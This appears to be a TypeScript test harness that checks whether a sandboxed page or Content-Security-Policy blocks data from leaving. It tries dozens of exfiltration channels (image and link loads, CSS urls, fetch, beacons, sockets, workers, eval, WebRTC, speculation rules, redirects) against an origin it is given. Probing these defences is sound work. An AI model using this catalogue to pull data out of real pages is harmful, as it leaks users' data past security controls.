/** Runs in the page and may use nothing from this file: tries every known way to send data out. */
export async function tryEveryWayOut(origin: string): Promise<readonly string[]> {
  const thrown: string[] = []
  const blocked: string[] = []
  document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective))

  const attempt = async (name: string, run: () => unknown): Promise<void> => {
    await Promise.resolve()
      .then(run)
      .catch(() => thrown.push(name))
  }
  const add = (tag: string, attributes: Record<string, string>, parent: Element = document.body): Element => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    parent.append(element)
    return element
  }
  const svg = (tag: string, attributes: Record<string, string>): void => {
    const root = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    const element = document.createElementNS('http://www.w3.org/2000/svg', tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    root.append(element)
    document.body.append(root)
  }
  const at = (name: string): string => `${origin}/${name}?q=secret`
  const links = {
    stylesheet: {},
    prefetch: {},
    modulepreload: {},
    manifest: {},
    icon: {},
    'dns-prefetch': {},
    preload: { as: 'image' },
  }
  const elements: readonly (readonly [string, Record<string, string>])[] = [
    ['img', { src: at('img') }],
    ['img', { srcset: `${at('srcset')} 2x` }],
    ['iframe', { src: at('iframe') }],
    ['iframe', { srcdoc: `<img src="${at('srcdoc')}">` }],
    ['video', { src: at('video'), poster: at('poster') }],
    ['audio', { src: at('audio'), preload: 'auto' }],
    ['object', { data: at('object') }],
    ['embed', { src: at('embed') }],
    ['input', { type: 'image', src: at('input') }],
    ['body', { background: at('background') }],
    ['script', { src: at('script') }],
    ['base', { href: at('base') }],
  ]
  for (const [rel, more] of Object.entries(links))
    await attempt(rel, () => add('link', { rel, href: at(`link-${rel}-style`), ...more }, document.head))
  for (const [tag, attributes] of elements) await attempt(tag, () => add(tag, attributes))
  await attempt('svg image', () => svg('image', { href: at('svg-image') }))
  await attempt('svg use', () => svg('use', { href: `${at('svg-use')}#a` }))
  for (const property of ['backgroundImage', 'listStyleImage', 'maskImage', 'cursor', 'borderImageSource'])
    await attempt(property, () => {
      const styled = add('li', {}) as HTMLElement
      styled.textContent = 'styled'
      Reflect.set(styled.style, property, `url("${at(property)}")${property === 'cursor' ? ', auto' : ''}`)
    })
  await attempt('style', () => {
    add('style', {}, document.head).textContent = `@import "${at('import-style')}"; body { color: red }`
  })
  await attempt('adopted style', async () => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`body::after { content: url("${at('adopted')}") }`)
    document.adoptedStyleSheets.push(sheet)
  })
  await attempt('font', () => new FontFace('planted', `url("${at('font')}")`).load())
  await attempt('fetch', () => fetch(at('fetch'), { method: 'POST', body: 'secret', mode: 'no-cors' }))
  await attempt('keepalive', () => fetch(at('keepalive'), { keepalive: true, mode: 'no-cors' }))
  await attempt('beacon', () => navigator.sendBeacon(at('beacon'), 'secret'))
  const request = Reflect.get(globalThis, 'XMLHttpRequest')
  await attempt('request', () => {
    const sent = Reflect.construct(request, [])
    sent.open('GET', at('xhr'))
    sent.send()
  })
  for (const [name, address] of [
    ['WebSocket', at('socket').replace('http', 'ws')],
    ['EventSource', at('events')],
    ['Worker', at('worker')],
    ['SharedWorker', at('shared-worker')],
  ] as const)
    await attempt(name, () => Reflect.construct(Reflect.get(globalThis, name), [address]))
  await attempt('service worker', () => navigator.serviceWorker.register(at('service-worker')))
  await attempt('import', () => import(/* @vite-ignore */ at('import')))
  await attempt('worklet', () => new AudioContext().audioWorklet.addModule(at('worklet')))
  await attempt('inline script', () => {
    add('script', {}).textContent = `fetch("${at('inline')}", { mode: "no-cors" })`
  })
  await attempt('markup', () => {
    Reflect.set(add('div', {}), 'innerHTML', `<img src="${at('markup')}">`)
  })
  await attempt('write', () =>
    Reflect.apply(Reflect.get(document, 'write'), document, [`<img src="${at('write')}">`]),
  )
  await attempt('eval', () =>
    Reflect.apply(Reflect.get(globalThis, 'eval'), null, [`fetch("${at('eval')}", { mode: "no-cors" })`]),
  )
  await attempt('function', () =>
    Reflect.construct(Function, [`fetch("${at('function')}", { mode: "no-cors" })`])(),
  )
  await attempt('rules', () => {
    const rules = JSON.stringify({ prefetch: [{ urls: [at('speculation')] }] })
    add('script', { type: 'speculationrules' }, document.head).textContent = rules
  })
  await attempt('ping', () => (add('a', { href: '#nowhere', ping: at('ping') }) as HTMLElement).click())
  await attempt('peer', async () => {
    const urls = `turn:${new URL(origin).host}?transport=tcp`
    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'secret', credential: 'secret' }] })
    peer.createDataChannel('secret')
    await peer.setLocalDescription(await peer.createOffer())
  })
  await new Promise((resolve) => setTimeout(resolve, 700))
  return [...new Set([...thrown, ...blocked])].toSorted()
}

/** Runs in the page, too: newer or rarely used ways to send data. */
export async function tryRareWaysOut(origin: string): Promise<void> {
  const at = (name: string): string => `${origin}/${name}?q=secret`
  const add = (element: Element, attributes: Record<string, string>, parent: Element = document.body) => {
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    parent.append(element)
    return element
  }
  const make = (tag: string): Element => document.createElement(tag)
  const construct = (name: string, ...values: unknown[]): object =>
    Reflect.construct(Reflect.get(globalThis, name), values)
  const ways: readonly (() => unknown)[] = [
    () => add(make('img'), { src: at('picture') }, add(make('picture'), {})),
    () => add(make('track'), { src: at('track'), default: '' }, add(make('video'), { src: at('tracked') })),
    () => {
      const root = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
      add(document.createElementNS('http://www.w3.org/2000/svg', 'feImage'), { href: at('filter') }, root)
      document.body.append(root)
    },
    () => {
      const source = new Blob([`importScripts("${at('blob-worker')}")`], { type: 'text/javascript' })
      return construct('Worker', URL.createObjectURL(source))
    },
    () => Reflect.get(globalThis, 'fetchLater')(at('later'), { activateAfter: 0 }),
    () => construct('WebTransport', at('transport').replace('http:', 'https:')),
    () => (add(make('a'), { href: at('download'), download: 'secret' }) as HTMLElement).click(),
  ]
  for (const leave of ways)
    await Promise.resolve()
      .then(leave)
      .catch(() => undefined)
  await new Promise((resolve) => setTimeout(resolve, 500))
}

/** Runs in the page, too: tries to leave it in every way, and returns the final address. */
export async function tryToLeave(address: string): Promise<string> {
  const add = (tag: string, attributes: Record<string, string>): HTMLElement => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    document.body.append(element)
    return element
  }
  const ways: readonly (() => unknown)[] = [
    () => location.assign(address),
    () => location.replace(address),
    () => (add('form', { action: address, method: 'post' }) as HTMLFormElement).submit(),
    () => add('a', { href: address }).click(),
    () => add('a', { href: address, target: '_blank' }).click(),
    () => window.open(address),
    () => add('meta', { 'http-equiv': 'refresh', content: `0;url=${address}` }),
  ]
  for (const leave of ways) {
    setTimeout(leave, 0)
    await new Promise((resolve) => setTimeout(resolve, 150))
  }
  return location.origin + location.pathname
}
